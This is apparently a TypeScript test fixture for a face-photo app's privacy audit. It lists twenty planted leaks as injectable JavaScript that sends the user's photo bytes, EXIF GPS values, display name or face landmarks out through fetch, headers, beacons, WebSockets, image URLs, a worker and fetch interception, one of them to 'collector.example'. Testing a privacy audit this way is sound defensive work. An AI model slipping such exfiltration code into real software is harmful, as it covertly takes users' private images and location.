/**
 * Planted leaks: code that a careless, bribed or hacked developer could have written, one way each. A build with
 * any of them must fail the privacy audit, or the audit proves nothing.
 */

export interface Leak {
  readonly name: string;
  /** What the audit has to say of it. */
  readonly found: RegExp;
  /** Runs in the page with `file` (the chosen photo), `bytes` (its bytes), `base64` (3,000 of them) in reach. */
  readonly page?: string;
  /** Runs in the page before anything else. */
  readonly start?: string;
  /** Runs at the top of the worker's own script. */
  readonly worker?: string;
}

/** Replaces fetch by one that changes the body of requests whose address ends in `path`. */
const meddle = (path: string, change: string) => `
  const honest = window.fetch;
  window.fetch = async (input, init) => {
    const request = new Request(input, init);
    if (!new URL(request.url).pathname.endsWith(${JSON.stringify(path)}) || request.method !== 'POST')
      return honest(request);
    const body = await request.json();
    ${change}
    return honest(new Request(request, { body: JSON.stringify(body) }));
  };`;

const POST_JSON = `(value) => fetch('/functions/v1/log', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(value),
})`;

/** Sends this to the table of the history, as a row of it or a part of one. */
const POST_ROW = `(row) => fetch('/rest/v1/analyses', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(row),
})`;

export const LEAKS: readonly Leak[] = [
  {
    name: 'with the name in a text of the history',
    found: /the name/,
    page: `const { displayName } = JSON.parse(localStorage.getItem('roast-me-onboarding')).personalization;
      (${POST_ROW})({ roast: { closer: 'You are great, ' + displayName + '.' } });`,
  },
  {
    name: 'as a raw value beside a score',
    found: /a measure raw/,
    page: `(${POST_ROW})({ report: { sections: { skin: { metrics: { pores: { score: 67, raw: 1.25 } } } } } });`,
  },
  {
    name: 'as a probability',
    found: /a measure ranked, probability/,
    page: `(${POST_ROW})({ report: { faceShape: { ranked: [{ name: 'oval', probability: 0.61 }] } } });`,
  },
  {
    name: 'as a landmark nested three deep',
    found: /a field landmark/,
    page: `(${POST_ROW})({ report: { facts: { moment: { landmark: [0.31, 0.72] } } } });`,
  },
  {
    name: 'as place and camera, by their names',
    found: /what a camera notes GPSLatitude/,
    page: `(${POST_JSON})({ GPSLatitude: 35.68, GPSLongitude: 139.76 });`,
  },
  {
    name: 'as the EXIF segment itself',
    found: /what a camera notes/,
    page: `(${POST_JSON})({ note: btoa('Exif\\0\\0MM\\0*\\0\\0\\0\\x08\\0\\x01\\x88\\x25') });`,
  },
  {
    name: 'in a header of its own',
    found: /unknown header x-trace/,
    page: `fetch('/config.json', { headers: { 'x-trace': base64.slice(0, 400) } });`,
  },
  {
    name: 'in an honest header',
    found: /bytes of the photo/,
    page: `fetch('/config.json', { headers: { apikey: base64.slice(600, 1000) } });`,
  },
  {
    name: 'by a beacon',
    found: /bytes of the photo/,
    // Browsers take up to 64 KB.
    page: `navigator.sendBeacon('/config.json', file.slice(0, 60_000));`,
  },
  {
    name: 'in a WebSocket',
    found: /bytes of the photo/,
    page: `const socket = new WebSocket(location.origin.replace('http', 'ws') + '/live');
      socket.addEventListener('open', () => socket.send(bytes));`,
  },
  {
    name: 'in the address of an image',
    found: /bytes of the photo/,
    page: `new Image().src = '/samples/face.jpg?d=' + encodeURIComponent(base64.slice(600, 1100));`,
  },
  {
    name: 'as a form',
    found: /a body of type multipart/,
    page: `const form = new FormData(); form.set('file', file); fetch('/functions/v1/log', { method: 'POST', body: form });`,
  },
  {
    name: 'in small pieces of JSON',
    found: /bytes of the photo/,
    page: `for (let at = 600; at < 1500; at += 100) (${POST_JSON})({ note: base64.slice(at, at + 100) });`,
  },
  {
    name: 'as hexadecimal text',
    found: /bytes of the photo/,
    page: `(${POST_JSON})({ note: [...bytes.subarray(700, 740)].map((b) => b.toString(16).padStart(2, '0')).join('') });`,
  },
  {
    name: 'made small and coded anew',
    found: /an encoded image/,
    page: `createImageBitmap(file).then((bitmap) => {
        const canvas = document.createElement('canvas');
        canvas.width = canvas.height = 24;
        canvas.getContext('2d').drawImage(bitmap, 0, 0, 24, 24);
        return (${POST_JSON})({ note: canvas.toDataURL('image/jpeg', 0.5) });
      });`,
  },
  {
    name: 'as grey values',
    found: /numbers in a row/,
    page: `(${POST_JSON})({ values: [...bytes.subarray(700, 764)] });`,
  },
  {
    name: 'as landmarks among the facts',
    found: /facts beyond the contract/,
    start: meddle('/functions/v1/roast', `body.landmarks = Array.from({ length: 40 }, (_, i) => i / 40);`),
  },
  {
    name: 'as a shape that is hidden in an honest field of the facts',
    found: /facts beyond the contract/,
    start: meddle('/functions/v1/roast', `body.variant = 'a long name for a face'.repeat(3);`),
  },
  {
    name: 'out of the worker',
    found: /bytes of the photo/,
    worker: `self.addEventListener('message', ({ data }) => {
      const find = (value) =>
        value instanceof Blob ? value : typeof value === 'object' && value ? Object.values(value).map(find).find(Boolean) : null;
      const photo = find(data);
      if (photo) fetch('/functions/v1/log', { method: 'POST', body: photo });
    });`,
  },
  {
    name: 'to another host',
    found: /the policy stepped in/,
    page: `fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: file }).catch(() => {});`,
  },
];

/** What stands before the first script of the page. */
export const pageCode = ({ start = '', page = '' }: Leak): string => `{${start}
document.addEventListener('change', async (event) => {
  const file = event.target?.files?.[0];
  if (!file) return;
  const bytes = new Uint8Array(await file.arrayBuffer());
  const base64 = btoa(String.fromCharCode(...bytes.subarray(0, 3000)));
  ${page}
}, true);
}
`;
